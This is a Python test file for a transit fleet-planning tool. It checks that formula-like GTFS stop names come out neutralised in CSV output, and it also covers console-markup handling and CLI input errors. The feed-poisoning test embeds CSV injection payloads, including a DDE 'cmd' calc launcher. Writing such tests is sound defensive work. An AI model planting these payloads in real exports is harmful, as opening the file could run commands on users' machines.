    """GTFS stop and agency names that look like formulas reach bus_routes.csv and the sites as text."""
    from fleetplan.network.city_build import build_city
    from fleetplan.network.loaders import load_dataset
    from fleetplan.network.spreadsheet_cells import FORMULA_LEADS
    from tests.test_second_city import CRS, write_feed, write_osm

    feed = write_feed(tmp_path / "plain.zip")
    poisoned = tmp_path / "feed.zip"
    with (
        zipfile.ZipFile(feed) as source,
        zipfile.ZipFile(poisoned, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            text = source.read(name).decode("utf-8")
            if name == "stops.txt":
                text = text.replace("Paragem A0", '"' + FORMULA.replace('"', '""') + '"').replace(
                    "Paragem C3", "+cmd|' /C calc'!A0"
                )
            if name == "agency.txt":
                text = text.replace("Transportes de Teste", "@SUM(1+9)*cmd")
            target.writestr(name, text)
    out = tmp_path / "town"
    build_city(poisoned, write_osm(tmp_path / "town.osm"), name="Vila", crs=CRS, out=out)
    routes = pd.read_csv(out / "bus_routes.csv", dtype=str, keep_default_na=False)
    assert "'" + FORMULA in set(routes["origin"]) | set(routes["destination"])
    for path in out.glob("*.csv"):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in frame.columns:
            live = [
                v
                for v in frame[column]
                if v.startswith(FORMULA_LEADS)
                and v != "-"
                and pd.to_numeric(v, errors="coerce") != pd.to_numeric(v, errors="coerce")
            ]
            assert live == [], (path.name, column, live[:3])
    load_dataset(out)  # the neutralised names still make a valid dataset


# =========================================================================== 10. crashes and usage errors


def test_console_markup_in_names_is_printed_as_text(tmp_path: Path) -> None:
    """Names from users' files are printed as given: '[/b]' ended compare, frlm and data info with exit 3."""
    for name, scenario in (("a [b]", "plan [/b]"), ("b", "[red]x[/red] :smile:")):
        (tmp_path / name).mkdir()
        (tmp_path / name / "summary.json").write_text(
            json.dumps({"scenario": scenario, "system_cost_hkd": 5}), encoding="utf-8"
        )
    result = cli("compare", "a [b]", "b", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (
        "plan [/b]" in result.stdout
        and "[red]x[/red] :smile:" in result.stdout
        and "a [b]" in result.stdout
    )

    (tmp_path / "n.csv").write_text("node\nA [/b]\nB [i]\n", encoding="utf-8")
    (tmp_path / "e.csv").write_text("from,to,length\nA [/b],B [i],10\n", encoding="utf-8")
    (tmp_path / "f.csv").write_text("origin,destination,flow\nA [/b],B [i],5\n", encoding="utf-8")
    result = cli(
        "frlm",
        "--nodes",
        "n.csv",
        "--edges",
        "e.csv",
        "--flows",
        "f.csv",
        "--range",
        "100",
        "--stations",
        "1",
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert "A [/b]" in result.stdout and "B [i]" in result.stdout


def test_data_info_of_a_folder_named_with_markup(tmp_path: Path, tiny_template: Path) -> None:
    import shutil

    folder = tmp_path / "city [b]"  # with markup on, '[b]' vanished (and '[/b]' ended the command)
    shutil.copytree(tiny_template, folder)
    result = cli("data", "info", "--dataset", "city [b]", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "city [b]" in result.stdout


def test_yaml_merge_key_on_its_own_anchor_is_refused(tmp_path: Path) -> None:
    (tmp_path / "s.yaml").write_text(
        "name: s\nbudget: &m {total_hkd: 5, <<: *m}\n", encoding="utf-8"
    )
    assert_bad_input(cli("validate", "s.yaml", cwd=tmp_path), "s.yaml, line 2", "refers to itself")


def test_calibrate_out_an_existing_folder_is_refused_before_the_solve(tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    result = cli("calibrate", "--out", "folder", cwd=tmp_path, timeout=120)
    assert_bad_input(result, "folder", "--out", "is a folder")


@pytest.mark.parametrize("where", ["a file", "inside a file"])
def test_city_build_out_that_cannot_be_a_folder_is_refused_first(
    where: str, tmp_path: Path
) -> None:
    (tmp_path / "taken").write_text("x", encoding="utf-8")
    out = "taken" if where == "a file" else "taken/town"
    # The feed and extract do not exist: the output is checked before either is read.
    result = cli(
        "city",
        "build",
        "--gtfs",
        "none.zip",
        "--osm",
        "none.osm",
        "--name",
        "Vila",
        "--crs",
        "EPSG:3763",
        "--out",
        out,
        cwd=tmp_path,
    )
    assert_bad_input(result, "--out")


@pytest.mark.parametrize(("method", "words"), [(93, "compression method 93"), (99, "encrypted")])
def test_gtfs_zip_with_an_unreadable_compression_method_is_refused(
    method: int, words: str, tmp_path: Path
) -> None:
    import fleetplan.network.importers.gtfs as gtfs
    from tests.test_bad_inputs import GTFS

    path = tmp_path / "feed.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in GTFS.items():
            archive.writestr(name, text)
    raw = bytearray(path.read_bytes())
    # Rewrite the method of stop_times.txt in its local header and central directory (offsets 8 and 10).
    name = b"stop_times.txt"
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = 0
        while (start := raw.find(signature, start)) != -1:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if raw[name_at : name_at + len(name)] == name:
                raw[start + offset : start + offset + 2] = method.to_bytes(2, "little")
            start += 4
    path.write_bytes(bytes(raw))
    refused(
        lambda: gtfs.route_summary(path, limits=gtfs.DEFAULT_LIMITS, metric_crs="EPSG:2326"),
        "stop_times.txt",
        words,
    )


USAGE_ERRORS = [
    ("missing-option", ["depot"], "Missing option '--blocks'"),
    ("option-without-value", ["depot", "--blocks"], "requires an argument"),
    (
        "not-a-number",
        [
            "frlm",
            "--nodes",
            "n",
            "--edges",
            "e",
            "--flows",
            "f",
            "--range",
            "abc",
            "--stations",
            "1",
        ],
        "--range",
    ),
    ("unknown-option", ["solve", "--bogus"], "No such option: --bogus"),
    ("unknown-command", ["nope"], "No such command 'nope'"),
    ("extra-argument", ["validate", "a.yaml", "b.yaml"], "unexpected extra argument"),
    ("missing-argument", ["compare"], "Missing argument"),
]


@pytest.mark.parametrize(("case", "args", "words"), USAGE_ERRORS, ids=[c[0] for c in USAGE_ERRORS])
def test_usage_errors_are_one_line(case: str, args: list[str], words: str, tmp_path: Path) -> None:
    assert_bad_input(cli(*args, cwd=tmp_path), "error:", words)
